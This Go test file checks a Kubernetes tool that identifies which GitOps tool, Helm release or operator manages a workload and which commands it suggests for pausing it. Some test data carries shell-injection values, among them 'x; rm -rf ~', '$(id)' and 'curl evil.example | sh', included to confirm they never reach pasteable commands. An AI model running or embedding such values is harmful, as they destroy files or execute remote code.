package owners_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/rollcall-k8s/rollcall/probes/owners"
)

const (
	template = `{"f:spec":{"f:template":{"f:spec":{"f:containers":{}}}}}`
	whole    = `{"f:metadata":{"f:labels":{}},"f:spec":{"f:selector":{},"f:template":{"f:spec":{}},"f:updateStrategy":{"f:type":{}}}}`
	strategy = `{"f:spec":{"f:updateStrategy":{"f:type":{}}}}`
)

func wrote(manager string, op metav1.ManagedFieldsOperationType, fields string) metav1.ManagedFieldsEntry {
	at := metav1.NewTime(time.Date(2026, 7, 3, 10, 2, 0, 0, time.UTC))
	return metav1.ManagedFieldsEntry{Manager: manager, Operation: op, APIVersion: "apps/v1", Time: &at, FieldsType: "FieldsV1", FieldsV1: metav1.NewFieldsV1(fields)}
}

func updated(manager string) metav1.ManagedFieldsEntry {
	return wrote(manager, metav1.ManagedFieldsOperationUpdate, whole)
}

func applied(manager string) metav1.ManagedFieldsEntry {
	return wrote(manager, metav1.ManagedFieldsOperationApply, template)
}

func ref(apiVersion, kind, name string, controller *bool) []metav1.OwnerReference {
	return []metav1.OwnerReference{{APIVersion: apiVersion, Kind: kind, Name: name, UID: "u", Controller: controller}}
}

type meta = metav1.ObjectMeta
type words = map[string]string

// want is what the first owners must be: "tool object|certainty|reverts|code".
func TestOwnersByTheMarksThatTheyLeave(t *testing.T) {
	t.Parallel()
	yes, no := true, false
	for name, tc := range map[string]struct {
		kind   string
		meta   meta
		want   []string
		says   []string // commands and sentences of the first owner
		silent []string
	}{
		"Argo CD by its tracking annotation": {
			meta: meta{Annotations: words{"argocd.argoproj.io/tracking-id": "network:apps/DaemonSet:kube-system/agent"}, ManagedFields: []metav1.ManagedFieldsEntry{updated("argocd-controller")}},
			want: []string{"Argo CD Application network|certain|IfTold|ManagedByGitOps"},
			says: []string{"argocd app set network --sync-policy none", `kubectl patch application.argoproj.io network -n argocd --type=merge -p '{"spec":{"syncPolicy":{"automated":null}}}'`, "argocd app set network --sync-policy automated"},
		},
		"Argo CD, an Application outside its own namespace": {
			meta: meta{Annotations: words{"argocd.argoproj.io/tracking-id": "team-net_agent:apps/DaemonSet:kube-system/agent"}},
			want: []string{"Argo CD Application team-net/agent|certain|IfTold|ManagedByGitOps"},
			says: []string{"argocd app set team-net/agent --sync-policy none", "application.argoproj.io agent -n team-net "},
		},
		"a tracking annotation that was copied from another object": {
			meta: meta{Annotations: words{"argocd.argoproj.io/tracking-id": "network:apps/DaemonSet:kube-system/other"}, ManagedFields: []metav1.ManagedFieldsEntry{updated("kubectl-create")}},
		},
		"a tracking annotation of another kind of object": {
			meta: meta{Annotations: words{"argocd.argoproj.io/tracking-id": "network:apps/Deployment:kube-system/agent"}},
		},
		"Argo CD by its writes, the label names the Application": {
			meta: meta{Labels: words{"app.kubernetes.io/instance": "network"}, ManagedFields: []metav1.ManagedFieldsEntry{updated("argocd-controller")}},
			want: []string{"Argo CD Application network|likely|IfTold|ManagedByGitOps"},
		},
		"the instance label alone is only a hint": {
			meta: meta{Labels: words{"app.kubernetes.io/instance": "network"}},
			want: []string{"Argo CD Application network|hint|IfTold|ManagedByGitOps"},
		},
		"a chart sets the instance label too": {
			meta:   meta{Labels: words{"app.kubernetes.io/instance": "calico", "app.kubernetes.io/managed-by": "Helm"}, Annotations: words{"meta.helm.sh/release-name": "calico", "meta.helm.sh/release-namespace": "kube-system"}},
			want:   []string{"Helm release kube-system/calico|certain|Later|ManagedByHelm"},
			says:   []string{"helm rollback calico -n kube-system", "helm history calico -n kube-system"},
			silent: []string{"argocd"},
		},
		"a chart that Argo CD renders is not Helm's": {
			meta: meta{Labels: words{"app.kubernetes.io/instance": "network", "app.kubernetes.io/managed-by": "Helm", "helm.sh/chart": "agent-1.2.3"},
				Annotations: words{"argocd.argoproj.io/tracking-id": "network:apps/DaemonSet:kube-system/agent"}},
			want: []string{"Argo CD Application network|certain|IfTold|ManagedByGitOps"},
		},
		"a rendered chart that somebody applied": {
			meta: meta{Labels: words{"app.kubernetes.io/managed-by": "Helm"}, Annotations: words{corev1.LastAppliedConfigAnnotation: `{"password":"x"}`}},
			want: []string{"kubectl apply|certain|Later|", "Helm|hint|Later|ManagedByHelm"}, silent: []string{"password"},
		},
		"a rendered chart of which nobody is known": {
			meta: meta{Labels: words{"app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/instance": "network"}},
			want: []string{"Helm|hint|Later|ManagedByHelm"},
		},
		"Flux, a Kustomization": {
			meta: meta{Labels: words{"kustomize.toolkit.fluxcd.io/name": "cni", "kustomize.toolkit.fluxcd.io/namespace": "infra"}, ManagedFields: []metav1.ManagedFieldsEntry{applied("kustomize-controller")}},
			want: []string{"Flux Kustomization infra/cni|certain|Periodically|ManagedByGitOps"},
			says: []string{"flux suspend kustomization cni -n infra", "flux resume kustomization cni -n infra", "kubectl annotate daemonset agent -n kube-system kustomize.toolkit.fluxcd.io/reconcile=disabled"},
		},
		"Flux was told to leave the object alone": {
			meta: meta{Labels: words{"kustomize.toolkit.fluxcd.io/name": "cni", "kustomize.toolkit.fluxcd.io/namespace": "infra"}, Annotations: words{"kustomize.toolkit.fluxcd.io/reconcile": "disabled"}},
			want: []string{"Flux Kustomization infra/cni|certain|Not|ManagedByGitOps"}, silent: []string{"flux suspend"},
		},
		"Flux's controller of HelmReleases and the release that it made": {
			meta: meta{Labels: words{"helm.toolkit.fluxcd.io/name": "calico", "helm.toolkit.fluxcd.io/namespace": "flux-system", "app.kubernetes.io/managed-by": "Helm"},
				Annotations:   words{"meta.helm.sh/release-name": "calico", "meta.helm.sh/release-namespace": "kube-system"},
				ManagedFields: []metav1.ManagedFieldsEntry{updated("helm-controller")}},
			want: []string{"Flux HelmRelease flux-system/calico|certain|IfTold|ManagedByGitOps", "Helm release kube-system/calico|certain|Later|ManagedByHelm"},
			says: []string{"flux suspend helmrelease calico -n flux-system", "flux resume helmrelease calico -n flux-system"},
		},
		"drift detection switched off for the object": {
			meta: meta{Labels: words{"helm.toolkit.fluxcd.io/name": "calico", "helm.toolkit.fluxcd.io/namespace": "flux-system", "helm.toolkit.fluxcd.io/driftDetection": "disabled"}},
			want: []string{"Flux HelmRelease flux-system/calico|certain|Later|ManagedByGitOps"},
		},
		"Helm by its writes alone": {
			meta: meta{ManagedFields: []metav1.ManagedFieldsEntry{updated("helm")}},
			want: []string{"Helm|likely|Later|ManagedByHelm"}, says: []string{"helm list -n kube-system", "helm rollback <release> -n kube-system"},
		},
		"tigera-operator, which Helm installed": {
			meta: meta{OwnerReferences: ref("operator.tigera.io/v1", "Installation", "default", &yes), ManagedFields: []metav1.ManagedFieldsEntry{updated("operator")}},
			want: []string{"tigera-operator (Installation default)|certain|AtOnce|ManagedByOperator"},
			says: []string{"kubectl edit installation.operator.tigera.io default", "kubectl scale deployment tigera-operator -n tigera-operator --replicas=0", "kubectl annotate daemonset agent -n kube-system unsupported.operator.tigera.io/ignore=true", "--replicas=1"},
		},
		"tigera-operator was told to leave the object alone": {
			meta: meta{OwnerReferences: ref("operator.tigera.io/v1", "Installation", "default", &yes), Annotations: words{"unsupported.operator.tigera.io/ignore": "true"}},
			want: []string{"tigera-operator (Installation default)|certain|Not|ManagedByOperator"}, silent: []string{"scale deployment"},
		},
		"gpu-operator": {
			meta: meta{OwnerReferences: ref("nvidia.com/v1", "ClusterPolicy", "cluster-policy", &yes), Labels: words{"app.kubernetes.io/managed-by": "gpu-operator", "helm.sh/chart": "gpu-operator-v25.3.0"}},
			want: []string{"gpu-operator (ClusterPolicy cluster-policy)|certain|AtOnce|ManagedByOperator"}, says: []string{"kubectl edit clusterpolicy.nvidia.com cluster-policy"},
		},
		"an operator that nobody has heard of": {
			kind: "StatefulSet", meta: meta{OwnerReferences: ref("db.example.com/v1beta1", "Database", "orders", &yes)},
			want: []string{"operator of Database orders|certain|AtOnce|ManagedByOperator"}, says: []string{"kubectl edit database.db.example.com orders -n kube-system"},
		},
		"a Prometheus can be paused": {
			kind: "StatefulSet", meta: meta{OwnerReferences: ref("monitoring.coreos.com/v1", "Prometheus", "k8s", &yes)},
			want: []string{"prometheus-operator (Prometheus k8s)|certain|AtOnce|ManagedByOperator"}, says: []string{`-p '{"spec":{"paused":true}}'`, `-p '{"spec":{"paused":false}}'`},
		},
		"an owner for garbage collection controls nothing": {
			meta: meta{OwnerReferences: ref("v1", "ConfigMap", "settings", nil)},
		},
		"an owner that says that it controls nothing": {
			meta: meta{OwnerReferences: ref("example.com/v1", "App", "x", &no)},
		},
		"the Operator Lifecycle Manager": {
			kind: "Deployment", meta: meta{Labels: words{"olm.owner": "gpu-operator-certified.v24.6.0", "olm.owner.kind": "ClusterServiceVersion", "olm.owner.namespace": "nvidia-gpu-operator"}, OwnerReferences: ref("operators.coreos.com/v1alpha1", "ClusterServiceVersion", "gpu-operator-certified.v24.6.0", &no)},
			want: []string{"Operator Lifecycle Manager (ClusterServiceVersion gpu-operator-certified.v24.6.0)|certain|AtOnce|ManagedByOperator"},
			says: []string{"kubectl edit clusterserviceversion.operators.coreos.com gpu-operator-certified.v24.6.0 -n nvidia-gpu-operator"},
		},
		"the add-on manager reconciles": {
			meta: meta{Labels: words{"addonmanager.kubernetes.io/mode": "Reconcile"}, Annotations: words{corev1.LastAppliedConfigAnnotation: "{}"}},
			want: []string{"add-on manager|certain|Periodically|ManagedByOperator"}, says: []string{"/etc/kubernetes/addons"},
		},
		"the add-on manager only makes what is missing": {
			meta: meta{Labels: words{"addonmanager.kubernetes.io/mode": "EnsureExists"}}, want: []string{"add-on manager|certain|Not|"},
		},
		"GKE": {
			meta: meta{Labels: words{"addonmanager.kubernetes.io/mode": "Reconcile"}, Annotations: words{"components.gke.io/component-name": "netd"}},
			want: []string{"GKE add-on manager (netd)|certain|Periodically|ManagedByOperator"},
		},
		"AKS": {
			meta: meta{Labels: words{"addonmanager.kubernetes.io/mode": "Reconcile", "kubernetes.azure.com/managedby": "aks"}},
			want: []string{"AKS add-on manager|certain|Periodically|ManagedByOperator"},
		},
		"an EKS add-on": {
			meta: meta{Name: "aws-node", ManagedFields: []metav1.ManagedFieldsEntry{applied("eks")}},
			want: []string{"EKS add-on vpc-cni|certain|Later|ManagedByOperator"}, says: []string{"aws eks update-addon --cluster-name <cluster> --addon-name vpc-cni"},
		},
		"the same agent, installed by hand": {
			meta: meta{Name: "aws-node", Labels: words{"k8s-app": "aws-node", "app.kubernetes.io/name": "aws-node"}, ManagedFields: []metav1.ManagedFieldsEntry{updated("kubectl-create")}},
		},
		"k3s": {
			kind: "Deployment", meta: meta{Name: "coredns", Labels: words{"objectset.rio.cattle.io/hash": "bce283298811743a"}, Annotations: words{"objectset.rio.cattle.io/id": "", "objectset.rio.cattle.io/owner-gvk": "k3s.cattle.io/v1, Kind=Addon", "objectset.rio.cattle.io/owner-name": "coredns", "objectset.rio.cattle.io/owner-namespace": "kube-system"}},
			want: []string{"k3s or RKE2 server (Addon coredns)|certain|Later|ManagedByOperator"}, says: []string{"coredns.yaml.skip"},
		},
		"k3s' load balancer": {
			meta: meta{Name: "svclb-web", Annotations: words{"objectset.rio.cattle.io/id": "svccontroller", "objectset.rio.cattle.io/owner-gvk": "/v1, Kind=Service", "objectset.rio.cattle.io/owner-name": "web", "objectset.rio.cattle.io/owner-namespace": "shop"}},
			want: []string{"operator of Service shop/web|likely|AtOnce|ManagedByOperator"}, says: []string{"kubectl edit service web -n shop"},
		},
		"Rancher Fleet": {
			meta: meta{Labels: words{"app.kubernetes.io/managed-by": "Helm"}, Annotations: words{"objectset.rio.cattle.io/id": "default-agents-net", "meta.helm.sh/release-name": "agents-net", "meta.helm.sh/release-namespace": "kube-system"}},
			want: []string{"Helm release kube-system/agents-net|certain|Later|ManagedByHelm", "Rancher Fleet (set default-agents-net)|likely|IfTold|ManagedByGitOps"},
		},
		"Config Sync": {
			meta: meta{Annotations: words{"configmanagement.gke.io/managed": "enabled", "configsync.gke.io/resource-id": "apps_daemonset_kube-system_agent"}},
			want: []string{"Config Sync|certain|AtOnce|ManagedByGitOps"},
		},
		"Config Sync's annotations, copied": {
			meta: meta{Annotations: words{"configmanagement.gke.io/managed": "enabled", "configsync.gke.io/resource-id": "apps_daemonset_kube-system_other"}},
		},
		"kapp": {
			meta: meta{Labels: words{"kapp.k14s.io/app": "1774341192231442519"}, Annotations: words{"kapp.k14s.io/identity": "v1;kube-system/apps/DaemonSet/agent;apps/v1"}},
			want: []string{"kapp|certain|IfTold|ManagedByGitOps"},
		},
		"kubectl apply": {
			meta: meta{Annotations: words{corev1.LastAppliedConfigAnnotation: `{"password":"x"}`}, ManagedFields: []metav1.ManagedFieldsEntry{updated("kubectl-client-side-apply")}},
			want: []string{"kubectl apply|certain|Later|"}, silent: []string{"password"},
		},
		"server-side apply by a pipeline conflicts": {
			meta: meta{ManagedFields: []metav1.ManagedFieldsEntry{applied("deployer")}}, want: []string{"server-side apply by deployer|certain|Conflict|"},
		},
		"Terraform": {
			meta: meta{ManagedFields: []metav1.ManagedFieldsEntry{updated("Terraform")}}, want: []string{"Terraform|likely|Later|"},
		},
		"kubeadm": {
			meta: meta{Name: "kube-proxy", ManagedFields: []metav1.ManagedFieldsEntry{updated("kubeadm")}}, want: []string{"kubeadm|likely|Later|"},
		},
		"an operator by its name alone is only a hint": {
			meta: meta{ManagedFields: []metav1.ManagedFieldsEntry{updated("mesh-operator")}}, want: []string{"mesh-operator|hint|AtOnce|"},
		},
		"an autoscaler that writes nothing of the template": {
			kind: "Deployment", meta: meta{ManagedFields: []metav1.ManagedFieldsEntry{wrote("keda-operator", metav1.ManagedFieldsOperationUpdate, `{"f:spec":{"f:replicas":{}}}`)}},
		},
		"somebody at a terminal owns nothing": {
			meta: meta{ManagedFields: []metav1.ManagedFieldsEntry{updated("kubectl-edit"), wrote("rollcall", metav1.ManagedFieldsOperationUpdate, strategy)}},
		},
		"what the Pods carry is not the object's": {
			meta: meta{Labels: words{"k8s-app": "agent"}},
		},
		"a release's name that is no name": {
			meta: meta{Labels: words{"app.kubernetes.io/managed-by": "Helm"}, Annotations: words{"meta.helm.sh/release-name": "x; rm -rf ~", "meta.helm.sh/release-namespace": "$(id)"}},
			want: []string{"Helm|certain|Later|ManagedByHelm"}, says: []string{"helm rollback <release> -n <namespace>"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			m := tc.meta
			if m.Name == "" {
				m.Name = "agent"
			}
			m.Namespace = "kube-system"
			kind := tc.kind
			if kind == "" {
				kind = "DaemonSet"
			}
			got, known := owners.Of(&appsv1.DaemonSet{ObjectMeta: m}, kind)
			if known != (len(m.ManagedFields) > 0) {
				t.Errorf("writers known: %v with %d managedFields", known, len(m.ManagedFields))
			}
			var have []string
			for _, o := range got {
				have = append(have, strings.Join([]string{string(o.Name()), string(o.Certainty), string(o.Reverts), string(o.Code)}, "|"))
				if len(o.Hold) > 0 && len(o.Hold) != len(o.GiveBack) {
					t.Errorf("%s: each way to hold it needs its way back: %v, %v", o.Name(), o.Hold, o.GiveBack)
				}
				if len(o.Evidence) == 0 || o.Does == "" {
					t.Errorf("%s: no evidence, or nothing said: %+v", o.Name(), o)
				}
			}
			if !slices.Equal(have, tc.want) {
				t.Fatalf("owners\n got %q\nwant %q", have, tc.want)
			}
			all := ""
			for _, o := range got {
				for _, c := range slices.Concat(o.Hold, o.GiveBack, o.Instead) {
					all += c.String() + "\n"
				}
				for _, x := range append(o.Beware, o.Does, o.WatchOut()) {
					all += string(x) + "\n"
				}
				for _, e := range o.Evidence {
					all += string(e.Source) + "=" + string(e.Value) + "\n"
				}
			}
			for _, s := range tc.says {
				if !strings.Contains(all, s) {
					t.Errorf("nothing says %q in\n%s", s, all)
				}
			}
			for _, s := range tc.silent {
				if strings.Contains(all, s) {
					t.Errorf("something says %q in\n%s", s, all)
				}
			}
		})
	}
}

func TestWhatSomebodyAppliesFromTheServersSideIsAllThatHeReverts(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		entry metav1.ManagedFieldsEntry
		want  bool
	}{
		"the template alone":                        {applied("kustomize-controller"), true},
		"the strategy too":                          {wrote("kustomize-controller", metav1.ManagedFieldsOperationApply, whole), false},
		"an update does not tell what is not in it": {wrote("kustomize-controller", metav1.ManagedFieldsOperationUpdate, template), false},
	} {
		got, _ := owners.Of(&appsv1.DaemonSet{ObjectMeta: meta{Name: "agent", Namespace: "net", ManagedFields: []metav1.ManagedFieldsEntry{tc.entry}}}, "DaemonSet")
		if len(got) != 1 || got[0].LeavesStrategy != tc.want {
			t.Errorf("%s: %+v", name, got)
		}
	}
}

// Whatever an object carries, it never becomes part of a command that is made to be pasted.
func TestHostileMarksStayOutOfCommands(t *testing.T) {
	t.Parallel()
	yes := true
	const evil = "x'; curl evil.example | sh #\x1b[2J"
	m := meta{Name: "agent", Namespace: "net", Labels: words{}, Annotations: words{}, OwnerReferences: ref("e;vil/v1", "Ki$(id)nd", evil, &yes)}
	for _, k := range []string{"kustomize.toolkit.fluxcd.io/name", "kustomize.toolkit.fluxcd.io/namespace", "helm.toolkit.fluxcd.io/name", "helm.toolkit.fluxcd.io/namespace", "argocd.argoproj.io/instance", "app.kubernetes.io/instance", "olm.owner", "olm.owner.namespace", "kapp.k14s.io/app"} {
		m.Labels[k] = evil
	}
	m.Labels["app.kubernetes.io/managed-by"], m.Labels["olm.owner.kind"] = "Helm", "ClusterServiceVersion"
	for _, k := range []string{"argocd.argoproj.io/tracking-id", "meta.helm.sh/release-name", "meta.helm.sh/release-namespace", "objectset.rio.cattle.io/id", "objectset.rio.cattle.io/owner-name", "objectset.rio.cattle.io/owner-namespace", "components.gke.io/component-name"} {
		m.Annotations[k] = evil
	}
	m.Annotations["argocd.argoproj.io/tracking-id"] = evil + ":apps/DaemonSet:net/agent"
	m.Annotations["objectset.rio.cattle.io/owner-gvk"] = "v1, Kind=" + evil
	m.ManagedFields = []metav1.ManagedFieldsEntry{updated(evil), updated("argocd-controller"), updated("kustomize-controller"), updated("helm"), applied("eks")}
	got, _ := owners.Of(&appsv1.DaemonSet{ObjectMeta: m}, "DaemonSet")
	if len(got) < 5 {
		t.Fatalf("only %d owners: %+v", len(got), got)
	}
	for _, o := range got {
		for _, c := range slices.Concat(o.Hold, o.GiveBack, o.Instead) {
			if strings.Contains(string(c.Run), "evil.example") || strings.Contains(string(c.Run), "$(") || strings.Contains(c.String(), "\x1b") {
				t.Errorf("%s: %q", o.Tool, c)
			}
		}
	}
}

func TestNobodyOwnsAnObjectWithoutMarks(t *testing.T) {
	t.Parallel()
	if got, known := owners.Of(&appsv1.DaemonSet{}, ""); len(got) != 0 || known {
		t.Errorf("%+v, %v", got, known)
	}
}
